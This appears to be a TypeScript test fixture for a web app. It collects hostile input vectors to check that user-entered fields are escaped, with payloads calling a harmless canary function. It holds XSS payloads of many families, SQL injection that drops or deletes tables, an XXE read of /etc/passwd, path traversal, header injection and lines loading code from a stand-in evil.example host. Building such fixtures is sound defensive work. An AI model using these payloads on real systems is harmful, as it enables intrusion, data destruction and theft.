/**
 * Hostile input: what a stranger may type into any field the hub shows again. Every payload that
 * could run tries to call `window.__pwned(…)` (or alert, which the browser turns into a dialog),
 * so an execution anywhere is detectable.
 */
export interface Vector {
  family: string;
  payload: string;
}

const P = (id: string) => `window.__pwned('${id}')`;

const families: Record<string, string[]> = {
  // Plain script tags, in every casing and spacing a naive filter misses.
  script: [
    `<script>${P('s1')}</script>`,
    `<SCRIPT>${P('s2')}</SCRIPT>`,
    `<script src="data:text/javascript,${P('s3')}"></script>`,
    `<scr<script>ipt>${P('s4')}</scr</script>ipt>`,
    `<script\n>${P('s5')}</script\n>`,
    `</title><script>${P('s6')}</script>`,
    `</textarea><script>${P('s7')}</script>`,
    `</style><script>${P('s8')}</script>`,
    `"><script>${P('s9')}</script>`,
    `'><script>${P('s10')}</script>`,
    `<script type="module">${P('s11')}</script>`,
    `<noscript><p title="</noscript><img src=x onerror=${P('s12')}>">`,
  ],
  // Event handlers on harmless-looking elements.
  handlers: [
    `<img src=x onerror=${P('h1')}>`,
    `<img src="x" onerror="${P('h2')}">`,
    `<body onload=${P('h3')}>`,
    `<div onmouseover="${P('h4')}">survol</div>`,
    `<input autofocus onfocus=${P('h5')}>`,
    `<details open ontoggle=${P('h6')}>`,
    `<video><source onerror=${P('h7')}></video>`,
    `<audio src=x onerror=${P('h8')}>`,
    `<iframe onload=${P('h9')}></iframe>`,
    `<marquee onstart=${P('h10')}>`,
    `<select autofocus onfocus=${P('h11')}>`,
    `<textarea autofocus onfocus=${P('h12')}>`,
    `<keygen autofocus onfocus=${P('h13')}>`,
    `<a href="#" onclick="${P('h14')}">clic</a>`,
    `<object data=x onerror=${P('h15')}>`,
    `<img/src/onerror=${P('h16')}>`,
    `<img src=x oNeRrOr=${P('h17')}>`,
    `" onmouseover="${P('h18')}" x="`,
    `' autofocus onfocus='${P('h19')}' x='`,
    `<form><button formaction="javascript:${P('h20')}">envoyer</button></form>`,
  ],
  // javascript: URLs, disguised by case, entities, whitespace and control characters.
  javascriptUrl: [
    `<a href="javascript:${P('j1')}">lien</a>`,
    `<a href="JaVaScRiPt:${P('j2')}">lien</a>`,
    `<a href="jav&#x09;ascript:${P('j3')}">lien</a>`,
    `<a href="&#106;avascript:${P('j4')}">lien</a>`,
    `<a href=" javascript:${P('j5')}">lien</a>`,
    `<iframe src="javascript:${P('j6')}"></iframe>`,
    `javascript:${P('j7')}`,
    `javascript://%0a${P('j8')}`,
    `<a href="vbscript:msgbox(1)">vb</a>`,
    `<form action="javascript:${P('j10')}"><input type=submit></form>`,
    `<embed src="javascript:${P('j11')}">`,
    `<a href="java\0script:${P('j12')}">nul</a>`,
  ],
  // data: URLs that carry HTML or script.
  dataUrl: [
    `<a href="data:text/html,<script>${P('d1')}</script>">d</a>`,
    `<iframe src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></iframe>`,
    `<object data="data:text/html,<script>${P('d3')}</script>"></object>`,
    `<embed src="data:image/svg+xml,<svg onload=${P('d4')}>">`,
    `data:text/html,<script>${P('d5')}</script>`,
    `<img src="data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' onload='${P('d6')}'/>">`,
    `<a href="DATA:text/html,<script>${P('d7')}</script>">D</a>`,
    `<script src="data:,${P('d8')}"></script>`,
  ],
  // SVG and MathML: other namespaces, other parsing rules.
  svg: [
    `<svg onload=${P('v1')}>`,
    `<svg><script>${P('v2')}</script></svg>`,
    `<svg><animate onbegin=${P('v3')} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${P('v4')}"><text x=20 y=20>x</text></a></svg>`,
    `<svg><foreignObject><img src=x onerror=${P('v5')}></foreignObject></svg>`,
    `<svg><set attributeName=onmouseover to=${P('v6')}>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${P('v7')}>`,
    `<svg/onload=${P('v8')}>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${P('v9')}'/></svg>#x"/></svg>`,
    `<svg><style><img src=x onerror=${P('v10')}></style></svg>`,
  ],
  // Broken and unbalanced markup: half tags, comments, CDATA, attributes left open.
  brokenMarkup: [
    `<img src=x onerror=${P('b1')}`,
    `<img src="x" onerror="${P('b2')}"`,
    `<<script>${P('b3')};//<</script>`,
    `<!--<img src="--><img src=x onerror=${P('b4')}//">`,
    `<![CDATA[<script>${P('b5')}</script>]]>`,
    `<a href="x`,
    `<p title="</p><img src=x onerror=${P('b7')}>">`,
    `<div<div>>x</div>`,
    `</div></div></main></body></html><script>${P('b9')}</script>`,
    `<style>@import 'javascript:${P('b10')}';</style>`,
    `<base href="javascript:${P('b11')}//">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${P('b12')}">`,
    `<table><td background="javascript:${P('b13')}">`,
    `<isindex action=javascript:${P('b14')} type=submit>`,
    `&lt;script&gt;${P('b15')}&lt;/script&gt;`,
    `&#60;img src=x onerror=${P('b16')}&#62;`,
  ],
  // CSS: expression(), url(javascript:), behaviours, style attributes.
  css: [
    `<div style="width: expression(${P('c1')})">x</div>`,
    `<div style="background:url(javascript:${P('c2')})">x</div>`,
    `<style>body{background:url("javascript:${P('c3')}")}</style>`,
    `<p style="behavior: url(#default#time2)">x</p>`,
    `<div style="x:\\65 xpression(${P('c5')})">x</div>`,
    `<link rel=stylesheet href="javascript:${P('c6')}">`,
    `<style>*{-moz-binding:url("http://evil.example/xss.xml#x")}</style>`,
    `color: red; background: url(javascript:${P('c8')})`,
    `</style><img src=x onerror=${P('c9')}>`,
    `<div style="position:fixed;inset:0;z-index:99999;background:red">recouvre</div>`,
  ],
  // Right-to-left override and zero-width characters: text that reads differently than it is.
  unicode: [
    `facture\u202Efdp.exe`,
    `\u202Eerreiv al ed tnemelpmoc`,
    `Na\u200Bdia`,
    `jav\u200Bascript:${P('u4')}`,
    `<scr\u200Dipt>${P('u5')}</scr\u200Dipt>`,
    `\u2066isolé\u2069 et \u2067rtl\u2069`,
    `\uFEFFBOM au début`,
    `\u200E\u200F marques de direction`,
    `Combinants : e\u0301\u0301\u0301\u0301\u0301\u0301`,
    `Émoji 🏠🔥 et astral 𝒳`,
    `\u0000 caractère nul`,
    `ligne\u2028séparateur\u2029paragraphe`,
    `＜script＞${P('u13')}＜/script＞`,
    `\u202Dforcé LTR\u202C`,
  ],
  // Template injection: server and client template syntaxes that must stay literal text.
  template: [
    `{{7*7}}`,
    `\${7*7}`,
    `#{7*7}`,
    `<%= 7*7 %>`,
    `{{constructor.constructor('${P('t5')}')()}}`,
    `{% raw %}{{7*7}}{% endraw %}`,
    `[[7*7]]`,
    `{{{7*7}}}`,
    `\${alert(1)}`,
    `{{$on.constructor('${P('t10')}')()}}`,
    `@{7*7}`,
    `<template><img src=x onerror=${P('t12')}></template>`,
  ],
  // SQL and other query injection: must be stored and shown as typed.
  sql: [
    `' OR 1=1 --`,
    `" OR "1"="1`,
    `'; DROP TABLE items; --`,
    `1; SELECT * FROM users`,
    `admin'--`,
    `' UNION SELECT password FROM console_users --`,
    `%' AND 1=0 UNION SELECT 1 --`,
    `\\'; DELETE FROM audit_log; --`,
    `{"$gt": ""}`,
    `'); INSERT INTO claims VALUES ('x'); --`,
  ],
  // Markdown links and images that would become javascript:/data: links if rendered naively.
  markdown: [
    `[cliquez ici](javascript:${P('m1')})`,
    `[x](javascript:${P('m2')})`,
    `[x](data:text/html,<script>${P('m3')}</script>)`,
    `![image](x" onerror="${P('m4')})`,
    `[x](JAVASCRIPT:${P('m5')})`,
    `<javascript:${P('m6')}>`,
    `[x]( javascript:${P('m7')} )`,
    `[x][ref]\n\n[ref]: javascript:${P('m8')}`,
    `**gras** _italique_ \`code\` <b>b</b>`,
    `[x](https://evil.example "titre\\" onmouseover=\\"${P('m10')}")`,
  ],
  // Very long words and texts: layout, truncation and regex cost.
  longWords: [
    'a'.repeat(5000),
    'Anticonstitutionnellement'.repeat(120),
    `${'x'.repeat(3000)}<img src=x onerror=${P('l3')}>`,
    '&'.repeat(2000),
    '<'.repeat(2000),
    `https://example.org/${'chemin/'.repeat(400)}`,
    '💥'.repeat(1500),
    ' '.repeat(1000) + 'fin',
  ],
  // Header and mail injection, path tricks, JSON breakouts.
  misc: [
    `Nadia\r\nBcc: victime@example.org`,
    `Nadia\nSubject: piégé`,
    `../../etc/passwd`,
    `%3Cscript%3E${P('x4')}%3C/script%3E`,
    `\\u003cscript\\u003e${P('x5')}\\u003c/script\\u003e`,
    `</script><script>${P('x6')}</script>`,
    `"});${P('x7')};//`,
    `';${P('x8')};//`,
    `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>`,
    `=HYPERLINK("http://evil.example","clic")`,
    `M&M <b>x</b> & Co`,
    `&amp; &lt; &gt; &quot; &#39;`,
  ],
};

export const VECTORS: Vector[] = Object.entries(families).flatMap(([family, payloads]) => payloads.map((payload) => ({ family, payload })));

/** A short, searchable tag to prefix each vector with, so its copy can be found back. */
export const tagOf = (index: number) => `hv${String(index).padStart(3, '0')}`;
